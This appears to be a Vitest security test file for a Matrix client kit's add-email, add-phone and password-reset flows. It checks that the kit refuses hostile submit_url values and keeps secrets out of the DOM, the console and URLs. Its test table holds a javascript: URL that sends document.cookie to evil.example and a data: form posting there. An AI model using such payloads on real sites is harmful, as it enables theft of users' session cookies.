import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { configure, render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type { ReactElement } from 'react';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from 'vitest';
import { AddEmailFlow, AddPhoneFlow, ResetPasswordFlow } from '../../src';
import { en } from '../../src/i18n/en';
import { createThreepidClient } from '../../src/protocol';
import { ThreepidProvider } from '../../src/react';
import { createFakeHomeserver, type FakeHomeserver } from '../../src/testing';
import type { Exchange, FakeHomeserverOptions } from '../../src/testing/types';

configure({ asyncUtilTimeout: 5000 });
vi.setConfig({ testTimeout: 20_000 });

const HTTPS_BASE = 'https://matrix.example.test';
const ALICE = { token: 'syt_alice_fakehomeserver0000000001', password: 'correct horse' };
const PHONE = { national: '07400 123456', e164: '+447400123456' };

/** One call the kit made: the URL and the body it sent. */
interface SentRequest {
  url: string;
  body: string;
}

/**
 * A homeserver that turns hostile on demand: a fetch wrapper around the fake that records every request the kit
 * sends and can rewrite the `submit_url` of requestToken answers. Also gathers every secret that went over the wire.
 */
function hostileSetup(options: FakeHomeserverOptions, rewriteSubmitUrl?: (original: string) => string) {
  const secrets = new Set<string>([ALICE.token, ALICE.password]);
  const collect = (value: unknown): void => {
    if (Array.isArray(value)) value.forEach(collect);
    else if (typeof value === 'object' && value !== null) {
      for (const [key, field] of Object.entries(value)) {
        if (['client_secret', 'password', 'new_password', 'token', 'access_token'].includes(key) && typeof field === 'string') secrets.add(field);
        else collect(field);
      }
    }
  };
  const hs = createFakeHomeserver({
    baseUrl: HTTPS_BASE,
    rateLimit: false,
    ...options,
    onExchange: (exchange: Exchange) => collect(exchange.requestBody),
  });
  const sent: SentRequest[] = [];
  return { hs, sent, fetch: wrapperFetch(sent, hs, rewriteSubmitUrl), secrets: () => [...secrets, ...hs.inbox.all().map((m) => m.token)] };
}

function renderWith(ui: ReactElement, fetchImpl: typeof fetch, accessToken: string | undefined) {
  const client = createThreepidClient({ baseUrl: HTTPS_BASE, accessToken, fetch: fetchImpl });
  const queryClient = new QueryClient({ defaultOptions: { queries: { retry: false }, mutations: { retry: false } } });
  render(
    <QueryClientProvider client={queryClient}>
      <ThreepidProvider client={client}>{ui}</ThreepidProvider>
    </QueryClientProvider>,
  );
  return { user: userEvent.setup({ delay: null }) };
}

/** Every console call of any level, as text. */
function consoleRecorder(): { lines(): string[]; restore(): void } {
  const spies: MockInstance[] = (['log', 'info', 'warn', 'error', 'debug'] as const).map((level) => vi.spyOn(console, level));
  return {
    lines: () => spies.flatMap((spy) => spy.mock.calls.map((args) => args.map((arg) => (typeof arg === 'string' ? arg : JSON.stringify(arg) ?? String(arg))).join(' '))),
    restore: () => spies.forEach((spy) => spy.mockRestore()),
  };
}

const HOSTILE_SUBMIT_URLS: { name: string; rewrite: (original: string) => string }[] = [
  { name: 'javascript:', rewrite: () => 'javascript:fetch("https://evil.example/"+document.cookie)' },
  { name: 'data:', rewrite: () => 'data:text/html,<form method=post action=https://evil.example/>' },
  // Same host, but plain http from an https homeserver: the code and client_secret would cross the network in clear.
  { name: 'http from an https homeserver', rewrite: (original) => original.replace(/^https:/, 'http:') },
];

/** What the security table prints: each hostile answer tried, and what the kit did. */
const tried: { flow: string; submitUrl: string; outcome: string }[] = [];

describe('a hostile submit_url', () => {
  let recorded: ReturnType<typeof consoleRecorder>;
  beforeEach(() => {
    recorded = consoleRecorder();
  });
  afterEach(() => recorded.restore());
  afterAll(() => {
    const width = Math.max(...tried.map((row) => row.submitUrl.length), 'submit_url'.length);
    console.log(
      ['Security: hostile submit_url', `${'flow'.padEnd(12)} | ${'submit_url'.padEnd(width)} | outcome`, ...tried.map((row) => `${row.flow.padEnd(12)} | ${row.submitUrl.padEnd(width)} | ${row.outcome}`)].join('\n'),
    );
  });

  describe.each(HOSTILE_SUBMIT_URLS)('($name)', ({ name, rewrite }) => {
    it('should be refused by AddPhoneFlow with nothing sent, saying the code was not sent', async () => {
      const { hs, sent, fetch, secrets } = hostileSetup({}, rewrite);
      const { user } = renderWith(<AddPhoneFlow defaultCountry="GB" />, fetch, ALICE.token);
      await user.type(await screen.findByRole('textbox', { name: en['phone.label'] }), PHONE.national);
      await user.click(screen.getByRole('button', { name: en['addPhone.submit'] }));
      // A complete code sends itself.
      await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest(PHONE.e164)?.token ?? '');

      expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.invalidSubmitUrl']);
      // Nothing left for the hostile address: no request to it, none to the real submit_url, the code nowhere.
      expect(sent.map((request) => new URL(request.url).pathname)).toEqual([
        '/_matrix/client/v3/capabilities',
        '/_matrix/client/v3/account/3pid/msisdn/requestToken',
      ]);
      expect(hs.requests.count({ endpoint: 'submitToken' })).toBe(0);
      const code = hs.inbox.latest(PHONE.e164)?.token ?? '';
      expect(sent.filter((request) => request.body.includes(code))).toEqual([]);
      expect(leaks(secrets(), recorded.lines())).toEqual([]);
      tried.push({ flow: 'AddPhoneFlow', submitUrl: name, outcome: 'refused, message shown, 0 requests to any submit_url, code sent nowhere' });
    });

    it('should be refused by AddEmailFlow (server-checked email codes) with nothing sent', async () => {
      const { hs, sent, fetch } = hostileSetup({ emailSubmitUrl: true }, rewrite);
      const { user } = renderWith(<AddEmailFlow />, fetch, ALICE.token);
      await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'hostile@example.org');
      await user.click(screen.getByRole('button', { name: en['addEmail.submit'] }));
      await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest('hostile@example.org')?.token ?? '');

      expect(await screen.findByRole('alert')).toHaveTextContent(en['errors.invalidSubmitUrl']);
      expect(sent.map((request) => new URL(request.url).pathname)).toEqual([
        '/_matrix/client/v3/capabilities',
        '/_matrix/client/v3/account/3pid/email/requestToken',
      ]);
      expect(hs.requests.count({ endpoint: 'submitToken' })).toBe(0);
      tried.push({ flow: 'AddEmailFlow', submitUrl: name, outcome: 'refused, message shown, 0 requests to any submit_url' });
    });
  });
});

describe('secrets while a flow runs', () => {
  it.each([
    {
      name: 'AddPhoneFlow',
      ui: <AddPhoneFlow defaultCountry="GB" pollIntervalMs={false} />,
      accessToken: ALICE.token,
      async drive(user: ReturnType<typeof userEvent.setup>, hs: FakeHomeserver) {
        await user.type(await screen.findByRole('textbox', { name: en['phone.label'] }), PHONE.national);
        await user.click(screen.getByRole('button', { name: en['addPhone.submit'] }));
        await user.type(await screen.findByRole('textbox', { name: en['code.label'] }), hs.inbox.latest(PHONE.e164)?.token ?? '');
          await user.type(await screen.findByLabelText(en['auth.password.label']), ALICE.password);
        await user.click(screen.getByRole('button', { name: en['auth.password.submit'] }));
        await screen.findByRole('heading', { level: 2, name: en['addPhone.done.heading'] });
      },
    },
    {
      name: 'ResetPasswordFlow',
      ui: <ResetPasswordFlow pollIntervalMs={false} />,
      accessToken: undefined,
      async drive(user: ReturnType<typeof userEvent.setup>, hs: FakeHomeserver) {
        await user.type(await screen.findByRole('textbox', { name: en['email.label'] }), 'alice@example.org');
        await user.click(screen.getByRole('button', { name: en['reset.submitEmail'] }));
        await user.type(await screen.findByLabelText(en['reset.password.newLabel']), 'new password, long enough');
        await user.type(screen.getByLabelText(en['reset.password.confirmLabel']), 'new password, long enough');
        await user.click(screen.getByRole('button', { name: en['common.continue'] }));
        await screen.findByRole('heading', { level: 2, name: en['reset.link.heading'] });
        await hs.followLink(hs.inbox.latest('alice@example.org')?.link ?? '');
        await user.click(screen.getByRole('button', { name: en['reset.link.continue'] }));
        await screen.findByRole('heading', { level: 2, name: en['reset.done.heading'] });
      },
    },
  ])('should keep every secret of $name out of the DOM, the console and every URL the kit builds', async ({ ui, accessToken, drive }) => {
    const recorded = consoleRecorder();
    try {
      const { hs, sent, fetch, secrets } = hostileSetup({});
      const { user } = renderWith(ui, fetch, accessToken);
      await drive(user, hs);
      const all = secrets();
      // client_secret, the code or link token, the passwords and the access token were all in play.
      expect(all.length).toBeGreaterThanOrEqual(4);
      const dom = document.documentElement.outerHTML;
      expect(leaks(all, [dom])).toEqual([]);
      expect(leaks(all, recorded.lines())).toEqual([]);
      expect(leaks(all, sent.map((request) => request.url))).toEqual([]);
    } finally {
      recorded.restore();
    }
  });
});

/** The fetch the client gets: records, forwards to the fake, and rewrites submit_url when asked. */
function wrapperFetch(sent: SentRequest[], hs: FakeHomeserver, rewrite?: (original: string) => string): typeof fetch {
  return async (input, init) => {
    const url = input instanceof Request ? input.url : String(input);
    sent.push({ url, body: typeof init?.body === 'string' ? init.body : '' });
    const response = await hs.fetch(input, init);
    if (!rewrite || !new URL(url).pathname.endsWith('/requestToken') || response.status !== 200) return response;
    const body: unknown = await response.json();
    const changed =
      typeof body === 'object' && body !== null && 'submit_url' in body && typeof body.submit_url === 'string'
        ? { ...body, submit_url: rewrite(body.submit_url) }
        : body;
    return new Response(JSON.stringify(changed), { status: 200, headers: { 'content-type': 'application/json' } });
  };
}

/** Which secrets appear in any of `texts` (masked, so a failure does not print them whole). */
function leaks(secrets: string[], texts: string[]): string[] {
  return secrets.filter((secret) => texts.some((text) => text.includes(secret) || text.includes(encodeURIComponent(secret)))).map((s) => `${s.slice(0, 2)}…`);
}
